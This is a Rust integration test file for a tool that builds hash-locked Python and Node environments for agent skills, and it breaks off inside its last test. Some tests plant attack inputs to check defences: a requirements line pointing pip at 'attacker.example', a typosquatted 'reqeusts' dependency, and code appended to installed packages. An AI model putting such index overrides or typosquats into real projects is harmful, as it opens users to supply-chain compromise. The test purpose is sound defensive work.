//! Skill environments (issue 31 items 3-4), end to end through the binary:
//! a skill whose script imports a third-party package (python-dateutil,
//! which needs six) is installed from a local wheel folder with uv, offline;
//! the lock pins every package by the sha256 of its wheel; the script runs in
//! the sandbox with the environment mounted read-only; two skills with the
//! same requirements share one environment; a missing environment is a
//! clear error and its skill's tools are not offered; `install --frozen
//! --offline` builds it again; `verify` finds a changed file; `env gc`
//! removes what no lock records.
//!
//! uv and the wheels: `SKILLDECK_TEST_UV` names the uv binary,
//! `SKILLDECK_TEST_WHEELS` a folder with the python-dateutil and six wheels
//! (scripts/test-environments.sh prepares both). Without them the tests
//! that build say so and pass, unless `SKILLDECK_TEST_REQUIRE_UV=1`, which
//! makes them fail. The refusals that need no uv always run.

#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};

use serde_json::{Value, json};
use skilldeck_testkit::mcp::StdioClient;

/// The skill's script: imports the package, prints what it parsed and where
/// the package was imported from.
const SCRIPT: &str = "import sys, dateutil\nfrom dateutil import parser\n\
                      print(parser.parse('27 Nov 2026 10:00').isoformat())\n\
                      print(dateutil.__file__)\n";

/// uv and the wheel folder, when the environment provides them; with
/// `SKILLDECK_TEST_REQUIRE_UV=1`, a failure when it does not.
fn uv_and_wheels() -> Option<(PathBuf, PathBuf)> {
    let uv = std::env::var_os("SKILLDECK_TEST_UV").map(PathBuf::from);
    let wheels = std::env::var_os("SKILLDECK_TEST_WHEELS").map(PathBuf::from);
    if std::env::var_os("SKILLDECK_TEST_REQUIRE_UV").is_some_and(|v| v == "1") {
        let uv = uv.as_ref().expect(
            "SKILLDECK_TEST_REQUIRE_UV=1 but SKILLDECK_TEST_UV is not set (run \
             scripts/test-environments.sh)",
        );
        assert!(uv.is_file(), "{} is not a file", uv.display());
        let wheels = wheels.as_ref().expect("SKILLDECK_TEST_WHEELS is not set");
        assert!(wheels.is_dir(), "{} is not a folder", wheels.display());
    }
    match (uv, wheels) {
        (Some(u), Some(w)) => Some((u, w)),
        _ => {
            eprintln!(
                "SKILLDECK_TEST_UV / SKILLDECK_TEST_WHEELS not set: the environment build tests \
                 did not run (scripts/test-environments.sh runs them)"
            );
            None
        }
    }
}

/// A project: `src/NAME/` skills with `requirements`, the script and a
/// tool; the environment store and uv's cache inside it. Every folder is
/// traversable by the sandbox's user (a root caller's scripts run as it).
struct Project {
    dir: tempfile::TempDir,
    uv: Option<PathBuf>,
}

impl Project {
    fn new(uv: Option<&Path>) -> Project {
        let dir = tempfile::tempdir().unwrap();
        std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
        std::fs::write(
            dir.path().join("skilldeck.toml"),
            "[exec]\nenabled = true\ntools = \"always\"\ntimeout-secs = 60\n",
        )
        .unwrap();
        Project {
            dir,
            uv: uv.map(Path::to_path_buf),
        }
    }

    fn path(&self) -> &Path {
        self.dir.path()
    }

    fn store(&self) -> PathBuf {
        self.path().join("store")
    }

    fn skill(&self, name: &str, requirements: &str) -> PathBuf {
        let dir = self.path().join("src").join(name);
        std::fs::create_dir_all(dir.join("scripts")).unwrap();
        std::fs::write(
            dir.join("SKILL.md"),
            format!(
                "---\nname: {name}\ndescription: Parse dates with python-dateutil. Use when a \
                 date needs parsing.\ntools:\n  - name: when\n    description: Parse a date.\n    \
                 input_schema: {{type: object, properties: {{}}}}\n    run: scripts/when.py\n---\n\
                 # {name}\n"
            ),
        )
        .unwrap();
        std::fs::write(dir.join("requirements.txt"), requirements).unwrap();
        std::fs::write(dir.join("scripts/when.py"), SCRIPT).unwrap();
        dir
    }

    fn command(&self, args: &[&str]) -> Command {
        let mut c = Command::new(env!("CARGO_BIN_EXE_skilldeck"));
        c.args(args)
            .current_dir(self.path())
            .env("HOME", self.path().join("home"))
            .env("NO_COLOR", "1")
            .env("XDG_CONFIG_HOME", self.path().join("xdg"))
            .env("XDG_CACHE_HOME", self.path().join("cache"))
            .env("SKILLDECK_ENVS_DIR", self.store())
            // An empty cache: the packages can only come from the wheels.
            .env("UV_CACHE_DIR", self.path().join("uv-cache"))
            .env_remove("SKILLDECK_UV")
            .stdin(Stdio::null());
        if let Some(uv) = &self.uv {
            c.env("SKILLDECK_UV", uv);
        }
        c
    }

    fn run(&self, args: &[&str]) -> Output {
        self.command(args).output().unwrap()
    }

    /// The environments in the store.
    fn environments(&self) -> Vec<String> {
        let mut out: Vec<String> = std::fs::read_dir(self.store())
            .map(|entries| {
                entries
                    .flatten()
                    .map(|e| e.file_name().to_string_lossy().into_owned())
                    .filter(|n| !n.starts_with('.'))
                    .collect()
            })
            .unwrap_or_default();
        out.sort();
        out
    }

    fn lock(&self) -> String {
        std::fs::read_to_string(self.path().join(".agents/skilldeck.lock")).unwrap()
    }
}

fn ok(out: &Output) -> String {
    let stdout = String::from_utf8_lossy(&out.stdout).into_owned();
    assert!(
        out.status.success(),
        "exit {:?}\nstdout: {stdout}\nstderr: {}",
        out.status.code(),
        String::from_utf8_lossy(&out.stderr)
    );
    stdout
}

fn failed(out: &Output) -> String {
    assert!(
        !out.status.success(),
        "expected a failure; stdout: {}",
        String::from_utf8_lossy(&out.stdout)
    );
    format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    )
}

fn install_offline(p: &Project, wheels: &Path, sources: &[&str]) -> Output {
    let mut args = vec!["install"];
    args.extend_from_slice(sources);
    args.extend_from_slice(&["--offline", "--find-links", wheels.to_str().unwrap()]);
    p.run(&args)
}

/// sha256 of each wheel in the folder (`sha256:HEX`).
fn wheel_hashes(wheels: &Path) -> Vec<String> {
    std::fs::read_dir(wheels)
        .unwrap()
        .flatten()
        .filter(|e| e.file_name().to_string_lossy().ends_with(".whl"))
        .map(|e| skilldeck::Digest::of(&std::fs::read(e.path()).unwrap()).to_string())
        .collect()
}

fn tools(p: &Project) -> Vec<String> {
    let mut command = p.command(&["serve", "--no-watch", "--root", ".agents/skills"]);
    command.stdin(Stdio::piped());
    let mut client = StdioClient::start(command);
    let answer = client.request("tools/list", json!({}));
    answer["result"]["tools"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|t| t["name"].as_str().map(str::to_owned))
        .collect::<Vec<_>>()
        .into_iter()
        .filter(|n: &String| n.contains("__"))
        .collect()
}

#[test]
fn a_skill_that_imports_a_package_runs_after_install_and_the_lock_pins_it_by_hash() {
    let Some((uv, wheels)) = uv_and_wheels() else {
        return;
    };
    let p = Project::new(Some(&uv));
    p.skill("dates", "python-dateutil>=2.8\n");
    let out = ok(&install_offline(&p, &wheels, &["src/dates"]));
    assert!(
        out.contains("environment built: python-dateutil=="),
        "{out}"
    );
    let lock = p.lock();
    assert!(lock.contains("[skill.dates.environment]"), "{lock}");
    for hash in wheel_hashes(&wheels) {
        assert!(lock.contains(&hash), "{hash} not in the lock:\n{lock}");
    }
    assert!(lock.contains("name = \"six\""), "{lock}");
    let ran = ok(&p.run(&[
        "run",
        "dates",
        "scripts/when.py",
        "--root",
        ".agents/skills",
    ]));
    let mut lines = ran.lines();
    assert_eq!(lines.next(), Some("2026-11-27T10:00:00"));
    let imported = lines.next().unwrap();
    assert!(
        imported.starts_with(p.store().to_str().unwrap()),
        "imported from {imported}, not the store"
    );
    // The tool is offered and runs over MCP.
    let listed = tools(&p);
    assert_eq!(listed, ["dates__when"]);
    let shown = ok(&p.run(&["show", "dates", "--root", ".agents/skills"]));
    assert!(
        shown.contains("| environment | ready: python-dateutil=="),
        "{shown}"
    );
}

#[test]
fn two_skills_with_the_same_requirements_share_one_environment() {
    let Some((uv, wheels)) = uv_and_wheels() else {
        return;
    };
    let p = Project::new(Some(&uv));
    p.skill("dates", "python-dateutil>=2.8\n");
    p.skill("more-dates", "python-dateutil>=2.8\n");
    let out = ok(&install_offline(
        &p,
        &wheels,
        &["src/dates", "src/more-dates"],
    ));
    assert!(out.contains("environment built"), "{out}");
    assert!(out.contains("environment shared"), "{out}");
    assert_eq!(p.environments().len(), 1, "{:?}", p.environments());
    for skill in ["dates", "more-dates"] {
        ok(&p.run(&["run", skill, "scripts/when.py", "--root", ".agents/skills"]));
    }
}

#[test]
fn a_missing_environment_is_a_clear_error_and_install_frozen_offline_builds_it_again() {
    let Some((uv, wheels)) = uv_and_wheels() else {
        return;
    };
    let p = Project::new(Some(&uv));
    p.skill("dates", "python-dateutil>=2.8\n");
    ok(&install_offline(&p, &wheels, &["src/dates"]));
    for env in p.environments() {
        std::fs::remove_dir_all(p.store().join(env)).unwrap();
    }
    let err = failed(&p.run(&[
        "run",
        "dates",
        "scripts/when.py",
        "--root",
        ".agents/skills",
    ]));
    assert!(err.contains("environment-missing"), "{err}");
    assert!(err.contains("python-dateutil=="), "{err}");
    assert!(err.contains("skilldeck install --frozen"), "{err}");
    assert_eq!(
        tools(&p),
        Vec::<String>::new(),
        "a skill without its environment offers no tool"
    );
    let shown = ok(&p.run(&["show", "dates", "--root", ".agents/skills"]));
    assert!(
        shown.contains("| environment | environment-missing"),
        "{shown}"
    );
    let doctor = ok(&p.run(&["doctor", "--root", ".agents/skills"]));
    assert!(doctor.contains("skill environments not ready"), "{doctor}");
    assert!(doctor.contains("error[environment-missing]"), "{doctor}");
    let lock_before = p.lock();
    let out = ok(&p.run(&[
        "install",
        "--frozen",
        "--offline",
        "--find-links",
        wheels.to_str().unwrap(),
    ]));
    assert!(out.contains("environment built"), "{out}");
    assert_eq!(
        p.lock(),
        lock_before,
        "a frozen install never changes the lock"
    );
    ok(&p.run(&[
        "run",
        "dates",
        "scripts/when.py",
        "--root",
        ".agents/skills",
    ]));
}

#[test]
fn a_requirement_not_in_the_wheel_folder_fails_the_install_naming_it_and_installs_nothing() {
    let Some((uv, wheels)) = uv_and_wheels() else {
        return;
    };
    let p = Project::new(Some(&uv));
    p.skill("dates", "python-dateutil>=2.8\n");
    p.skill("broken", "# needs\nno-such-package-skilldeck==1.0\n");
    let err = failed(&install_offline(&p, &wheels, &["src/dates", "src/broken"]));
    assert!(err.contains("environment-build-failed"), "{err}");
    assert!(err.contains("no-such-package-skilldeck==1.0"), "{err}");
    assert!(err.contains("requirements.txt:2"), "{err}");
    assert!(
        !p.path().join(".agents/skills/dates").exists(),
        "nothing was installed"
    );
    assert!(!p.path().join(".agents/skilldeck.lock").exists());
}

#[test]
fn verify_finds_a_changed_file_in_an_environment_and_install_frozen_repairs_it() {
    let Some((uv, wheels)) = uv_and_wheels() else {
        return;
    };
    let p = Project::new(Some(&uv));
    p.skill("dates", "python-dateutil>=2.8\n");
    ok(&install_offline(&p, &wheels, &["src/dates"]));
    let out = ok(&p.run(&["verify"]));
    assert!(out.contains("ok         dates environment"), "{out}");
    let env = p.store().join(&p.environments()[0]);
    let six = std::fs::read_dir(env.join("lib"))
        .unwrap()
        .flatten()
        .map(|e| e.path().join("site-packages/six.py"))
        .find(|p| p.is_file())
        .unwrap();
    let mut text = std::fs::read_to_string(&six).unwrap();
    text.push_str("\nprint('planted')\n");
    std::fs::write(&six, text).unwrap();
    let err = failed(&p.run(&["verify"]));
    assert!(
        err.contains("environment-modified dates environment"),
        "{err}"
    );
    assert!(err.contains("six.py"), "{err}");
    ok(&p.run(&[
        "install",
        "--frozen",
        "--offline",
        "--find-links",
        wheels.to_str().unwrap(),
    ]));
    ok(&p.run(&["verify"]));
}

#[test]
fn env_gc_removes_the_environments_no_lock_records() {
    let Some((uv, wheels)) = uv_and_wheels() else {
        return;
    };
    let p = Project::new(Some(&uv));
    p.skill("dates", "python-dateutil>=2.8\n");
    p.skill("sixes", "six\n");
    ok(&install_offline(&p, &wheels, &["src/dates", "src/sixes"]));
    assert_eq!(p.environments().len(), 2);
    let out = ok(&p.run(&["env", "gc"]));
    assert!(out.contains("2 environments kept"), "{out}");
    ok(&p.run(&["remove", "sixes"]));
    let dry = ok(&p.run(&["env", "gc", "--dry-run"]));
    assert!(dry.contains("would remove"), "{dry}");
    assert_eq!(p.environments().len(), 2);
    let out = ok(&p.run(&["env", "gc"]));
    assert!(out.contains("1 environment kept"), "{out}");
    assert_eq!(p.environments().len(), 1);
    ok(&p.run(&[
        "run",
        "dates",
        "scripts/when.py",
        "--root",
        ".agents/skills",
    ]));
}

#[test]
fn a_skill_cannot_choose_its_index_and_nothing_is_installed() {
    let p = Project::new(None);
    p.skill(
        "sneaky",
        "--extra-index-url https://attacker.example/simple\npython-dateutil\n",
    );
    let err = failed(&p.run(&["install", "src/sneaky"]));
    assert!(err.contains("environment-requirement-invalid"), "{err}");
    assert!(err.contains("requirements.txt:1"), "{err}");
    assert!(!p.path().join(".agents/skills/sneaky").exists());
}

#[test]
fn without_uv_an_install_of_a_skill_with_dependencies_is_refused_saying_how_to_get_it() {
    let p = Project::new(Some(Path::new("/nonexistent/uv")));
    p.skill("dates", "python-dateutil>=2.8\n");
    let err = failed(&p.run(&["install", "src/dates"]));
    assert!(err.contains("environment-build-failed"), "{err}");
    assert!(err.contains("/nonexistent/uv"), "{err}");
    assert!(!p.path().join(".agents/skills/dates").exists());
}

#[test]
fn installed_without_environments_a_skill_with_dependencies_does_not_run_and_says_why() {
    let p = Project::new(None);
    p.skill("dates", "python-dateutil>=2.8\n");
    ok(&p.run(&["install", "src/dates", "--no-environments"]));
    let err = failed(&p.run(&[
        "run",
        "dates",
        "scripts/when.py",
        "--root",
        ".agents/skills",
    ]));
    assert!(err.contains("environment-missing"), "{err}");
    assert!(err.contains("python-dateutil>=2.8"), "{err}");
    assert!(err.contains("requirements.txt:1"), "{err}");
    let call = failed(&p.run(&[
        "call",
        "dates",
        "when",
        "--args",
        "{}",
        "--root",
        ".agents/skills",
    ]));
    assert!(call.contains("environment-missing"), "{call}");
    assert_eq!(tools(&p), Vec::<String>::new());
    let verify = failed(&p.run(&["verify"]));
    assert!(
        verify.contains("environment-missing dates environment"),
        "{verify}"
    );
}

/// The JSON of `verify` carries each environment's check (for scripts).
#[test]
fn verify_json_lists_environment_checks() {
    let Some((uv, wheels)) = uv_and_wheels() else {
        return;
    };
    let p = Project::new(Some(&uv));
    p.skill("dates", "python-dateutil>=2.8\n");
    ok(&install_offline(&p, &wheels, &["src/dates"]));
    let out = ok(&p.run(&["verify", "--format", "json"]));
    let v: Value = serde_json::from_str(&out).unwrap();
    assert_eq!(v["environments"][0]["skill"], "dates");
    assert_eq!(v["environments"][0]["status"], "ok");
}

#[test]
fn the_audit_finds_a_typosquatted_dependency_and_a_source_override() {
    let p = Project::new(None);
    let dir = p.skill(
        "squat",
        "reqeusts==2.31.0\n--extra-index-url https://attacker.example/simple\n",
    );
    let out = p.run(&["audit", dir.to_str().unwrap()]);
    let text = format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(text.contains("deps.shadows-well-known"), "{text}");
    assert!(text.contains("requests"), "{text}");
    assert!(text.contains("deps.source-override"), "{text}");
}

/// `skilldeck ARGS` against the registry `server` as its admin.
fn admin(
    p: &Project,
    server: &skilldeck_testkit::registry::RegistryProcess,
    args: &[&str],
) -> String {
    let mut all = args.to_vec();
    all.extend([
        "--registry",
        server.url.as_str(),
        "--token-file",
        server.admin_file.to_str().unwrap(),
    ]);
    ok(&p.run(&all))
}

#[test]
fn serve_registry_builds_the_environments_of_the_agents_skills_and_leaves_out_one_that_cannot_be_built()
 {
    let Some((uv, wheels)) = uv_and_wheels() else {
        return;
    };
    let p = Project::new(Some(&uv));
    std::fs::write(
        p.path().join("skilldeck.toml"),
        format!(
            "[exec]\nenabled = true\ntools = \"always\"\ntimeout-secs = 60\n\n\
             [environments]\noffline = true\nfind-links = [{:?}]\n",
            wheels.to_str().unwrap()
        ),
    )
    .unwrap();
    let server = skilldeck_testkit::registry::RegistryProcess::start(
        env!("CARGO_BIN_EXE_skilldeck"),
        &p.path().join("data"),
        &[],
    );
    for (name, requirements) in [
        ("dates", "python-dateutil>=2.8\n"),
        ("broken", "no-such-package-skilldeck==1.0\n"),
    ] {
        let dir = p.skill(name, requirements);
        // Published without a resolution (one that does not resolve
        // refuses the publish): the consumer resolves it, and fails.
        admin(
            &p,
            &server,
            &[
                "publish",
                dir.to_str().unwrap(),
                "--namespace",
                "acme",
                "--version",
                "1.0.0",
                "--no-environments",
            ],
        );
    }
    admin(&p, &server, &["registry", "agent", "create", "bot-1"]);
    for name in ["acme/dates", "acme/broken"] {
        admin(&p, &server, &["registry", "assign", "bot-1", name]);
    }
    let token = admin(
        &p,
        &server,
        &["registry", "token", "create", "--agent", "bot-1"],
    );
    let token_file = p.path().join("bot-token");
    std::fs::write(&token_file, token.trim()).unwrap();
    let mut command = p.command(&[
        "serve",
        "--registry",
        &server.url,
        "--agent",
        "bot-1",
        "--token-file",
        token_file.to_str().unwrap(),
    ]);
    command
        .env("RUST_LOG", "info")
        .env_remove("SKILLDECK_TOKEN");
    let mut client = StdioClient::start(command);
    let answer = client.request("tools/list", json!({}));
    let names: Vec<&str> = answer["result"]["tools"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|t| t["name"].as_str())
        .filter(|n| n.contains("__"))
        .collect();
    assert_eq!(names, ["dates__when"], "{answer}");
    let called = client.call("dates__when", json!({}));
    let text = skilldeck_testkit::mcp::text(&called);
    assert!(text.contains("2026-11-27T10:00:00"), "{called}");
    let log = client.wait_for_stderr(&["no-such-package-skilldeck==1.0"]);
    assert!(log.contains("cannot be built"), "{log}");
}

#[test]
fn an_interpreter_that_is_not_the_locked_version_fails_verify_and_a_frozen_install() {
    let Some((uv, wheels)) = uv_and_wheels() else {
        return;
    };
    let p = Project::new(Some(&uv));
    p.skill("dates", "python-dateutil>=2.8\n");
    ok(&install_offline(&p, &wheels, &["src/dates"]));
    // As if the lock had been made where /usr/bin/python3 was another
    // version (or the system's Python was upgraded since).
    let lockfile = p.path().join(".agents/skilldeck.lock");
    let lock = p.lock();
    let found = lock
        .lines()
        .find_map(|l| l.strip_prefix("python = \""))
        .and_then(|v| v.strip_suffix('"'))
        .unwrap()
        .to_owned();
    // The record stays consistent: its key is the one its content gives
    // (an edited record is refused as such).
    let table: toml::Table = toml::from_str(&lock).unwrap();
    let mut env: skilldeck::environment::LockedEnvironment = table["skill"]["dates"]["environment"]
        .clone()
        .try_into()
        .unwrap();
    let old_key = env.key.to_string();
    env.python = "3.0.1".into();
    env.key = skilldeck::environment::environment_key(
        env.kind,
        &env.interpreter,
        &env.python,
        &env.packages,
    );
    std::fs::write(
        &lockfile,
        lock.replace(&format!("python = \"{found}\""), "python = \"3.0.1\"")
            .replace(&old_key, &env.key.to_string()),
    )
    .unwrap();
    // And the environment was built for it then (the system's Python was
    // upgraded since): stored under that record's key, with its marker.
    let hex = |k: &str| k.trim_start_matches("sha256:").to_owned();
    let built = p.store().join(hex(&env.key.to_string()));
    std::fs::rename(p.store().join(hex(&old_key)), &built).unwrap();
    std::fs::write(
        built.join(skilldeck::environment::MARKER_FILE),
        env.to_toml(),
    )
    .unwrap();
    let err = failed(&p.run(&["verify"]));
    assert!(
        err.contains("environment-modified dates environment"),
        "{err}"
    );
    assert!(err.contains("built for Python 3.0.1"), "{err}");
    let err = failed(&p.run(&[
        "install",
        "--frozen",
        "--offline",
        "--find-links",
        wheels.to_str().unwrap(),
    ]));
    assert!(err.contains(&format!("now Python {found}")), "{err}");
}

#[test]
fn a_dynamic_context_directive_runs_with_the_skills_environment() {
    let Some((uv, wheels)) = uv_and_wheels() else {
        return;
    };
    let p = Project::new(Some(&uv));
    let dir = p.skill("dates", "python-dateutil>=2.8\n");
    let skill_md = std::fs::read_to_string(dir.join("SKILL.md")).unwrap();
    std::fs::write(
        dir.join("SKILL.md"),
        format!(
            "{skill_md}\nVersion: !`python3 -c 'import dateutil; print(\"dateutil-\" + dateutil.__version__)'`\n"
        ),
    )
    .unwrap();
    std::fs::write(
        p.path().join("skilldeck.toml"),
        "[exec]\nenabled = true\ntools = \"always\"\ntimeout-secs = 60\ndynamic-context = true\n",
    )
    .unwrap();
    ok(&install_offline(&p, &wheels, &["src/dates"]));
    let mut command = p.command(&["serve", "--no-watch", "--root", ".agents/skills"]);
    command.stdin(Stdio::piped());
    let mut client = StdioClient::start(command);
    let activated = client.call("activate_skill", json!({"name": "dates"}));
    let text = skilldeck_testkit::mcp::text(&activated);
    assert!(text.contains("Version: dateutil-2.9.0.post0"), "{text}");
}

// Node environments: package.json + npm ci, from an npm cache offline.

/// The integrity npm's registry publishes for is-odd 3.0.1 and is-number
/// 6.0.0 (the test packages scripts/test-environments.sh caches).
const IS_ODD_INTEGRITY: &str = "sha512-CQpnWPrDwmP1+SMHXZhtLtJv90yiyVfluGsX5iNCVkrhQtU3TQHsUWPG9wkdk9Lgd5yNpAg9jQEo90CBaXgWMA==";
const IS_NUMBER_INTEGRITY: &str = "sha512-Wu1VHeILBK8KAWJUAiSZQX94GmOE45Rg6/538fKwiloUu21KncEkYGPqob2oSZ5mUT73vLGrHQjKw3KMPwfDzg==";

/// The npm cache holding is-odd and is-number, when the environment
/// provides it; with `SKILLDECK_TEST_REQUIRE_NPM=1`, a failure when it
/// does not.
fn npm_cache() -> Option<PathBuf> {
    let cache = std::env::var_os("SKILLDECK_TEST_NPM_CACHE").map(PathBuf::from);
    if std::env::var_os("SKILLDECK_TEST_REQUIRE_NPM").is_some_and(|v| v == "1") {
        let cache = cache.as_ref().expect(
            "SKILLDECK_TEST_REQUIRE_NPM=1 but SKILLDECK_TEST_NPM_CACHE is not set (run \
             scripts/test-environments.sh)",
        );
        assert!(cache.is_dir(), "{} is not a folder", cache.display());
    }
    if cache.is_none() {
        eprintln!(
            "SKILLDECK_TEST_NPM_CACHE not set: the Node environment build tests did not run \
             (scripts/test-environments.sh runs them)"
        );
    }
    cache
}

/// A CommonJS script and an ES module that import is-odd and say where
/// it was loaded from.
const CJS_SCRIPT: &str = "const isOdd = require('is-odd');\n\
                          console.log('cjs', isOdd(3), require.resolve('is-odd'));\n";
const ESM_SCRIPT: &str = "import isOdd from 'is-odd';\n\
                          console.log('esm', isOdd(4), import.meta.resolve('is-odd'));\n";

impl Project {
    /// A skill `name` whose `package.json` is `package_json`, with the two
    /// scripts and a tool that runs the CommonJS one.
    fn node_skill(&self, name: &str, package_json: &str) -> PathBuf {
        let dir = self.path().join("src").join(name);
        std::fs::create_dir_all(dir.join("scripts")).unwrap();
        std::fs::write(
            dir.join("SKILL.md"),
            format!(
                "---\nname: {name}\ndescription: Tell odd numbers with is-odd. Use when a \
                 number's parity matters.\ntools:\n  - name: odd\n    description: Is 3 odd.\n    \
                 input_schema: {{type: object, properties: {{}}}}\n    run: scripts/odd.js\n---\n\
                 # {name}\n"
            ),
        )
        .unwrap();
        std::fs::write(dir.join("package.json"), package_json).unwrap();
        std::fs::write(dir.join("scripts/odd.js"), CJS_SCRIPT).unwrap();
        std::fs::write(dir.join("scripts/odd.mjs"), ESM_SCRIPT).unwrap();
        dir
    }
}

const IS_ODD_PACKAGE_JSON: &str = "{\n  \"name\": \"odd\",\n  \"private\": true,\n  \"dependencies\": {\n    \"is-odd\": \"^3.0.1\"\n  },\n  \"devDependencies\": {\n    \"left-pad\": \"git+https://example.invalid/left-pad.git\"\n  }\n}\n";

fn install_node_offline(p: &Project, cache: &Path, sources: &[&str]) -> Output {
    let mut args = vec!["install"];
    args.extend_from_slice(sources);
    args.extend_from_slice(&["--offline", "--npm-cache", cache.to_str().unwrap()]);
    p.run(&args)
}

/// A copy of the test cache: npm writes to its cache (index entries,
/// logs), and each test keeps its own.
fn own_cache(p: &Project, cache: &Path) -> PathBuf {
    let to = p.path().join("npm-cache");
    let status = Command::new("cp")
        .arg("-a")
        .arg(cache)
        .arg(&to)
        .status()
        .unwrap();
    assert!(status.success());
    to
}

#[test]
fn a_commonjs_and_an_es_module_script_import_a_node_package_in_the_sandbox_after_an_offline_install()
 {
    let Some(cache) = npm_cache() else {
        return;
    };
    let p = Project::new(None);
    let cache = own_cache(&p, &cache);
    p.node_skill("odd", IS_ODD_PACKAGE_JSON);
    let out = ok(&install_node_offline(&p, &cache, &["src/odd"]));
    assert!(
        out.contains("node environment built: is-number@6.0.0 is-odd@3.0.1"),
        "{out}"
    );
    let store = p.store();
    for (script, want) in [
        ("scripts/odd.js", "cjs true "),
        ("scripts/odd.mjs", "esm false file://"),
    ] {
        let ran = ok(&p.run(&["run", "odd", script, "--root", ".agents/skills"]));
        assert!(ran.starts_with(want), "{script}: {ran}");
        assert!(
            ran.contains(&format!("{}/", store.display())) && ran.contains("node_modules/is-odd"),
            "{script} imported is-odd from outside the store: {ran}"
        );
    }
    assert_eq!(tools(&p), ["odd__odd"]);
    let shown = ok(&p.run(&["show", "odd", "--root", ".agents/skills"]));
    assert!(
        shown.contains("| environment | ready: is-number@6.0.0 is-odd@3.0.1"),
        "{shown}"
    );
    let listed = ok(&p.run(&["env", "list"]));
    assert!(listed.contains(" /usr/bin/node "), "{listed}");
    assert!(listed.contains("is-odd@3.0.1"), "{listed}");
}

#[test]
fn the_lock_records_every_node_package_with_its_integrity_and_the_installed_tree() {
    let Some(cache) = npm_cache() else {
        return;
    };
    let p = Project::new(None);
    let cache = own_cache(&p, &cache);
    p.node_skill("odd", IS_ODD_PACKAGE_JSON);
    ok(&install_node_offline(&p, &cache, &["src/odd"]));
    let lock = p.lock();
    assert!(lock.contains("[skill.odd.node-environment]"), "{lock}");
    assert!(!lock.contains("[skill.odd.environment]"), "{lock}");
    assert!(lock.contains("kind = \"node\""), "{lock}");
    assert!(lock.contains("interpreter = \"/usr/bin/node\""), "{lock}");
    assert!(lock.contains("tree = \"sha256:"), "{lock}");
    for integrity in [IS_ODD_INTEGRITY, IS_NUMBER_INTEGRITY] {
        assert!(
            lock.contains(integrity),
            "{integrity} not in the lock:\n{lock}"
        );
    }
    assert!(
        lock.contains("path = \"node_modules/is-odd\", name = \"is-odd\", version = \"3.0.1\""),
        "{lock}"
    );
    assert!(
        lock.contains("dependencies = { \"is-number\" = \"^6.0.0\" }"),
        "{lock}"
    );
    // Dev dependencies play no part (the git one would be refused).
    assert!(!lock.contains("left-pad"), "{lock}");
    // An edited record is not trusted.
    let lockfile = p.path().join(".agents/skilldeck.lock");
    std::fs::write(
        &lockfile,
        lock.replace("version = \"6.0.0\"", "version = \"6.0.1\""),
    )
    .unwrap();
    let err = failed(&p.run(&["verify"]));
    assert!(err.contains("the record was edited"), "{err}");
}

#[test]
fn two_skills_with_the_same_node_dependencies_share_one_environment() {
    let Some(cache) = npm_cache() else {
        return;
    };
    let p = Project::new(None);
    let cache = own_cache(&p, &cache);
    p.node_skill("odd", IS_ODD_PACKAGE_JSON);
    p.node_skill("also-odd", "{\"dependencies\": {\"is-odd\": \"3.0.1\"}}\n");
    let out = ok(&install_node_offline(
        &p,
        &cache,
        &["src/odd", "src/also-odd"],
    ));
    assert!(out.contains("node environment built"), "{out}");
    assert!(out.contains("node environment shared"), "{out}");
    assert_eq!(p.environments().len(), 1, "{:?}", p.environments());
    for skill in ["odd", "also-odd"] {
        ok(&p.run(&["run", skill, "scripts/odd.mjs", "--root", ".agents/skills"]));
    }
}

#[test]
fn verify_finds_a_modified_node_modules_file_and_install_frozen_repairs_it() {
    let Some(cache) = npm_cache() else {
        return;
    };
    let p = Project::new(None);
    let cache = own_cache(&p, &cache);
    p.node_skill("odd", IS_ODD_PACKAGE_JSON);
    ok(&install_node_offline(&p, &cache, &["src/odd"]));
    let out = ok(&p.run(&["verify"]));
    assert!(out.contains("ok         odd environment"), "{out}");
    let env = p.store().join(&p.environments()[0]);
    let index = env.join("node_modules/is-number/index.js");
    let mut text = std::fs::read_to_string(&index).unwrap();
    text.push_str("\nconsole.log('planted');\n");
    std::fs::write(&index, text).unwrap();
    let err = failed(&p.run(&["verify"]));
    assert!(
        err.contains("environment-modified odd environment"),
        "{err}"
    );
    assert!(
        err.contains("is-number@6.0.0 (node_modules/is-number)"),
        "{err}"
    );
    let lock_before = p.lock();
    ok(&p.run(&[
        "install",
        "--frozen",
        "--offline",
        "--npm-cache",
        cache.to_str().unwrap(),
    ]));
    assert_eq!(
        p.lock(),
        lock_before,
        "a frozen install never changes the lock"
    );
    ok(&p.run(&["verify"]));
    // A file added beside the packages is found too.
    std::fs::write(env.join("node_modules/evil.js"), "x").unwrap();
    let err = failed(&p.run(&["verify"]));
    assert!(
        err.contains("outside the locked packages' folders"),
        "{err}"
    );
}

#[test]
fn a_missing_node_environment_is_a_clear_error_and_its_skill_offers_no_tools() {
    let Some(cache) = npm_cache() else {
        return;
    };
    let p = Project::new(None);
    let cache = own_cache(&p, &cache);
    p.node_skill("odd", IS_ODD_PACKAGE_JSON);
    ok(&install_node_offline(&p, &cache, &["src/odd"]));
    for env in p.environments() {
        std::fs::remove_dir_all(p.store().join(env)).unwrap();
    }
    let err = failed(&p.run(&["run", "odd", "scripts/odd.js", "--root", ".agents/skills"]));
    assert!(err.contains("environment-missing"), "{err}");
    assert!(err.contains("is-odd@3.0.1"), "{err}");
    assert!(err.contains("skilldeck install --frozen"), "{err}");
    let call = failed(&p.run(&[
        "call",
        "odd",
        "odd",
        "--args",
        "{}",
        "--root",
        ".agents/skills",
    ]));
    assert!(call.contains("environment-missing"), "{call}");
    assert_eq!(tools(&p), Vec::<String>::new());
    let shown = ok(&p.run(&["show", "odd", "--root", ".agents/skills"]));
    assert!(
        shown.contains("| environment | environment-missing"),
        "{shown}"
    );
    let doctor = ok(&p.run(&["doctor", "--root", ".agents/skills"]));
    assert!(doctor.contains("error[environment-missing]"), "{doctor}");
}

#[test]
fn npm_user_config_and_npm_config_variables_do_not_change_where_packages_come_from() {
    let Some(cache) = npm_cache() else {
        return;
    };
    let p = Project::new(None);
    let cache = own_cache(&p, &cache);
